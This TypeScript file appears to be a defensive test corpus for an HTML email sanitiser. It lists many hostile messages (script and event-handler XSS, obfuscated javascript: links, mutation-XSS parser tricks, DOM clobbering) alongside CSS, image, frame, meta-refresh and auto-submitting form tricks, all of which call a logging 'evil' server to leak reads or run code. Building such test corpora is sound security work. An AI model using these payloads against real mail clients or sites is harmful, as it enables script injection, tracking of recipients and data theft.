/** A letter that tries to do something it must not. `evil` is the address of a server that writes down every request. */
export interface HostileLetter {
  readonly name: string;
  html(evil: string): string;
}

const letter = (name: string, html: (evil: string) => string): HostileLetter => ({ name, html });
const run = (evil: string) =>
  `top.ranHostile=1;window.ranHostile=1;new Image().src='${evil}/ran';open('${evil}/open')`;

const scripts = [
  letter("script element", (evil) => `<script>${run(evil)}</script>`),
  letter("script from outside", (evil) => `<script src="${evil}/s.js"></script>`),
  letter("module script", (evil) => `<script type=module>import '${evil}/m.js'</script>`),
  letter("onerror of an image", (evil) => `<img src=x onerror="${run(evil)}">`),
  letter("onload of the body", (evil) => `<body onload="${run(evil)}">x</body>`),
  letter("ontoggle of details", (evil) => `<details open ontoggle="${run(evil)}">x</details>`),
  letter(
    "autofocus with onfocus",
    (evil) =>
      `<input autofocus onfocus="${run(evil)}"><a href="#" autofocus tabindex=1 onfocus="${run(evil)}">x</a>`,
  ),
  letter(
    "animation event",
    (evil) =>
      `<style>@keyframes a{from{color:red}}</style><b style="animation:a 1s" onanimationstart="${run(evil)}">x</b>`,
  ),
  letter("javascript link", (evil) => `<a href="javascript:${run(evil)}">press</a>`),
  letter("javascript link in disguise", (evil) => `<a href="&#106;ava\tscr&#10;ipt:${run(evil)}">press</a>`),
  letter("vbscript link", () => `<a href="vbscript:msgbox(1)">press</a>`),
  letter("data link", (evil) => `<a href="data:text/html,<script>${run(evil)}</script>">press</a>`),
  letter("javascript of an image", (evil) => `<img src="javascript:${run(evil)}">`),
  letter("svg onload", (evil) => `<svg onload="${run(evil)}"><circle r=9 /></svg>`),
  letter(
    "svg script",
    (evil) => `<svg><script href="${evil}/svg.js"></script><script>${run(evil)}</script></svg>`,
  ),
  letter(
    "svg animate of href",
    (evil) =>
      `<svg><a><animate attributeName=href values="javascript:${run(evil)}"/><text y=20>press</text></a></svg>`,
  ),
  letter(
    "svg foreignObject",
    (evil) =>
      `<svg><foreignObject><iframe src="${evil}/fo"></iframe><img src=x onerror="${run(evil)}"></foreignObject></svg>`,
  ),
  letter(
    "math action",
    (evil) =>
      `<math><maction actiontype="statusline" xlink:href="javascript:${run(evil)}">press</maction></math>`,
  ),
  letter("template", (evil) => `<template><img src="${evil}/t" onerror="${run(evil)}"></template>`),
  letter(
    "shadow root",
    (evil) =>
      `<div><template shadowrootmode=open><img src="${evil}/shadow" onerror="${run(evil)}"></template></div>`,
  ),
  letter(
    "srcdoc frame",
    (evil) => `<iframe srcdoc="<script>${run(evil)}</script><img src='${evil}/srcdoc'>"></iframe>`,
  ),
  letter(
    "custom element",
    (evil) => `<x-a onclick="${run(evil)}" is="x-b"><button is="x-c">x</button></x-a>`,
  ),
];

const mutations = [
  letter(
    "math style comment",
    (evil) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run(evil)}&gt;">`,
  ),
  letter("svg style title", (evil) => `<svg></p><style><a id="</style><img src=x onerror=${run(evil)}>">`),
  letter(
    "form in form",
    (evil) =>
      `<form><math><mtext></form><form><mglyph><style></math><img src=${evil}/mx onerror=${run(evil)}>`,
  ),
  letter("noscript title", (evil) => `<noscript><p title="</noscript><img src=x onerror=${run(evil)}>">`),
  letter("xmp", (evil) => `<xmp><p title="</xmp><img src=${evil}/xmp onerror=${run(evil)}>">`),
  letter("noembed", (evil) => `<noembed><p title="</noembed><img src=${evil}/ne onerror=${run(evil)}>">`),
  letter(
    "noembed made of style",
    (evil) => `<style><p title="</noembed><img src=${evil}/ns onerror=${run(evil)}>"></style>`,
  ),
  letter(
    "comment end",
    (evil) =>
      `<!--><img src=${evil}/c1 onerror=${run(evil)}>--><!-- --!><img src=${evil}/c2 onerror=${run(evil)}>`,
  ),
  letter("cdata", (evil) => `<svg><![CDATA[><img src=${evil}/cd onerror=${run(evil)}>]]></svg>`),
  letter(
    "select style",
    (evil) => `<select><style></select><img src=${evil}/sel onerror=${run(evil)}></style>`,
  ),
  letter(
    "table foster",
    (evil) =>
      `<table><img src=${evil}/tab onerror=${run(evil)}><tr><td><script>${run(evil)}</script></table>`,
  ),
  letter("null bytes", (evil) => `<scr\0ipt>${run(evil)}</scr\0ipt><img sr\0c=x onerror="${run(evil)}">`),
  letter("slashes for spaces", (evil) => `<img/src=x/onerror=${run(evil)}><svg/onload=${run(evil)}>`),
  letter(
    "clobbered names",
    (evil) =>
      `<form name=attributes><input name=parentNode><input id=nodeName></form><img name=body src="${evil}/clob"><a id=documentElement>x</a>`,
  ),
  letter(
    "our own marks",
    (evil) =>
      `<a data-mail-link="0" href="${evil}/mark">a</a><img data-mail-image="0" src="${evil}/mi"><p data-mail-style="background:url(${evil}/ms)">x</p>`,
  ),
  letter("deep nesting", (evil) => `${"<div>".repeat(600)}<img src="${evil}/deep" onerror="${run(evil)}">`),
  letter("plaintext", (evil) => `<plaintext><img src=${evil}/pt onerror=${run(evil)}>`),
];

const fetches = [
  letter("image", (evil) => `<img src="${evil}/i.png">`),
  letter("protocol-relative image", (evil) => `<img src="${evil.replace("http:", "")}/pr.png">`),
  letter(
    "backslash image",
    (evil) =>
      `<img src="${evil.replace("http://", "\\\\\\\\")}/bs.png"><img src="http:\\\\${evil.slice(7)}/bs2">`,
  ),
  letter("srcset", (evil) => `<img srcset="${evil}/1x 1x, ${evil}/2x 2x" sizes=100vw>`),
  letter("picture", (evil) => `<picture><source srcset="${evil}/p.webp"><img src="${evil}/p.png"></picture>`),
  letter(
    "lazy image",
    (evil) =>
      `<img loading=lazy src="${evil}/lazy"><img loading=eager fetchpriority=high src="${evil}/eager">`,
  ),
  letter(
    "tracking pixel",
    (evil) => `<img width=1 height=1 src="${evil}/pixel"><img style="display:none" src="${evil}/hidden">`,
  ),
  letter(
    "backgrounds",
    (evil) =>
      `<body background="${evil}/body"><table background="${evil}/table"><tr><td background="${evil}/td">x</table>`,
  ),
  letter(
    "css url",
    (evil) =>
      `<p style="background:url(${evil}/bg)">x</p><p style="background-image:url('${evil}/bi')">x</p>`,
  ),
  letter(
    "css url escaped",
    (evil) =>
      `<p style="background:\\75rl(${evil}/esc)">x</p><p style="background:u\\72l('${evil}/esc2')">x</p>`,
  ),
  letter(
    "css url with comments",
    (evil) =>
      `<p style="background:/*a*/url(/**/${evil}/com)">x</p><style>p{background:url(/*x*/"${evil}/com2")}</style>`,
  ),
  letter(
    "css image-set",
    (evil) =>
      `<p style="background:image-set('${evil}/is' 1x)">x</p><p style="background:-webkit-image-set(url(${evil}/wis) 1x)">x</p>`,
  ),
  letter(
    "css list, cursor, content, mask",
    (evil) =>
      `<ul style="list-style:url(${evil}/ls)"><li>x</ul><p style="cursor:url(${evil}/cur),auto">x</p><style>p::before{content:url(${evil}/con)}p{mask:url(${evil}/mask);border-image:url(${evil}/bim);shape-outside:url(${evil}/so);filter:url(${evil}/f#a);clip-path:url(${evil}/cp#a)}</style>`,
  ),
  letter(
    "css cross-fade, element, paint, src()",
    (evil) =>
      `<p style="background:-webkit-cross-fade(url(${evil}/cf1),url(${evil}/cf2),50%)">x</p><p style="background:src('${evil}/src')">x</p><p style="background:image('${evil}/image')">x</p>`,
  ),
  letter(
    "css import",
    (evil) =>
      `<style>@import url(${evil}/imp1);@import "${evil}/imp2" screen;@import/**/'${evil}/imp3';</style>`,
  ),
  letter(
    "css import escaped",
    (evil) => `<style>@\\69mport url(${evil}/impe);@IMPORT "${evil}/impu";</style>`,
  ),
  letter(
    "css font",
    (evil) => `<style>@font-face{font-family:z;src:url(${evil}/font.woff2)}*{font-family:z}</style>text`,
  ),
  letter(
    "css custom properties",
    (evil) =>
      `<style>:root{--u:url(${evil}/var)}p{background:var(--u)}</style><p style="--v:url(${evil}/var2);background:var(--v)">x</p>`,
  ),
  letter(
    "css nesting and media",
    (evil) =>
      `<style>p{color:red;& b{background:url(${evil}/nest)}}@media all{p{background:url(${evil}/media)}}@supports(color:red){p{background:url(${evil}/sup)}}@layer a{p{background:url(${evil}/layer)}}@container (width>0){p{background:url(${evil}/cont)}}</style><p><b>x</b></p>`,
  ),
  letter(
    "css attribute leak",
    (evil) =>
      `<style>[data-mail-link^="0"]{background:url(${evil}/leak)}a:visited{background:url(${evil}/visited)}p:hover{background:url(${evil}/hover)}</style><p>x <a href="https://x.example">y</a></p>`,
  ),
  letter(
    "css that ends the element",
    (evil) =>
      `<p style='color:red"}</style><img src="${evil}/end">'>x</p><style>a{}</style ><img src="${evil}/end2">`,
  ),
  letter(
    "css expression and binding",
    (evil) =>
      `<p style="width:expression(${run(evil)});-moz-binding:url(${evil}/xbl);behavior:url(${evil}/htc)">x</p>`,
  ),
  letter(
    "css page and namespace",
    (evil) =>
      `<style>@namespace url(${evil}/ns);@page{background:url(${evil}/page)}@counter-style c{symbols:url(${evil}/cs)}@property --p{syntax:'<image>';inherits:true;initial-value:url(${evil}/prop)}</style>`,
  ),
  letter(
    "svg image and use",
    (evil) =>
      `<svg><image href="${evil}/si"/><image xlink:href="${evil}/sx"/><use href="${evil}/u.svg#a"/><feImage href="${evil}/fe"/><style>rect{fill:url(${evil}/fill)}</style><rect width=9 height=9 /></svg>`,
  ),
  letter(
    "svg as an image",
    (evil) =>
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${evil}/dsvg'/></svg>">`,
  ),
  letter(
    "video, audio, track",
    (evil) =>
      `<video src="${evil}/v" poster="${evil}/poster" autoplay><source src="${evil}/vs"><track src="${evil}/track" default></video><audio src="${evil}/a" autoplay></audio>`,
  ),
  letter(
    "object, embed, applet",
    (evil) => `<object data="${evil}/o"><embed src="${evil}/e"></object><applet code="${evil}/ap"></applet>`,
  ),
  letter(
    "frames",
    (evil) =>
      `<iframe src="${evil}/if"></iframe><frameset><frame src="${evil}/fr"></frameset><fencedframe src="${evil}/ff"></fencedframe><portal src="${evil}/po"></portal>`,
  ),
  letter("links that load", (evil) =>
    [
      "stylesheet",
      "preload",
      "prefetch",
      "preconnect",
      "dns-prefetch",
      "modulepreload",
      "icon",
      "manifest",
      "prerender",
    ]
      .map((rel) => `<link rel="${rel}" as=image href="${evil}/link-${rel}" imagesrcset="${evil}/lis 1x">`)
      .join(""),
  ),
  letter(
    "input of type image",
    (evil) => `<input type=image src="${evil}/inp"><button formaction="${evil}/fa">x</button>`,
  ),
  letter("noscript image", (evil) => `<noscript><img src="${evil}/noscript"></noscript>`),
  letter(
    "old attributes",
    (evil) =>
      `<img dynsrc="${evil}/dyn" lowsrc="${evil}/low" longdesc="${evil}/ld"><p cite="${evil}/cite">x</p><table profile="${evil}/prof"></table>`,
  ),
  letter(
    "speculation rules",
    (evil) => `<script type=speculationrules>{"prerender":[{"urls":["${evil}/spec"]}]}</script>`,
  ),
  letter(
    "attribution and ping",
    (evil) =>
      `<a href="${evil}/ad" ping="${evil}/ping" attributionsrc="${evil}/attr">press</a><img attributionsrc="${evil}/attr2">`,
  ),
  letter("xml stylesheet", (evil) => `<?xml-stylesheet href="${evil}/xsl"?><p>x</p>`),
];

const navigations = [
  letter("meta refresh", (evil) => `<meta http-equiv=refresh content="0;url=${evil}/refresh"><p>x</p>`),
  letter(
    "meta cookie and policy",
    (evil) =>
      `<meta http-equiv=set-cookie content="a=b"><meta http-equiv=content-security-policy content="report-uri ${evil}/csp"><meta http-equiv=x-dns-prefetch-control content=on>`,
  ),
  letter("base", (evil) => `<base href="${evil}/" target=_top><a href="path">press</a><img src="rel.png">`),
  letter(
    "plain link pressed",
    (evil) =>
      `<a href="${evil}/pressed" target=_top>press</a><a href="${evil}/pressed2" target=_blank>press two</a>`,
  ),
  letter(
    "link over everything",
    (evil) => `<a href="${evil}/over" style="position:fixed;inset:0;z-index:99999;display:block">press</a>`,
  ),
  letter(
    "image map",
    (evil) =>
      `<map name=m><area href="${evil}/area" shape=default></map><img usemap=#m src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=300 height=300>`,
  ),
  letter(
    "form sent by itself",
    (evil) =>
      `<form id=f action="${evil}/form" method=post><input name=a value=b><button autofocus>press</button></form><script>f.submit()</script>`,
  ),
  letter(
    "form with a press",
    (evil) =>
      `<form action="${evil}/form2"><input type=submit value=press><input type=image src="${evil}/fi"></form><button form=f formaction="${evil}/fa2">press</button>`,
  ),
  letter(
    "dialog form",
    (evil) =>
      `<dialog open><form method=dialog action="${evil}/dlg"><button>press</button></form></dialog><button popovertarget=p commandfor=p command=show-modal>press</button><div popover id=p>x</div>`,
  ),
  letter("download", (evil) => `<a href="${evil}/dl.exe" download>press</a>`),
];

/** Our own corpus. What it shows is judged by the outside server and the browser, never by looking at the sanitiser. */
export const hostileLetters: readonly HostileLetter[] = [
  ...scripts,
  ...mutations,
  ...fetches,
  ...navigations,
];
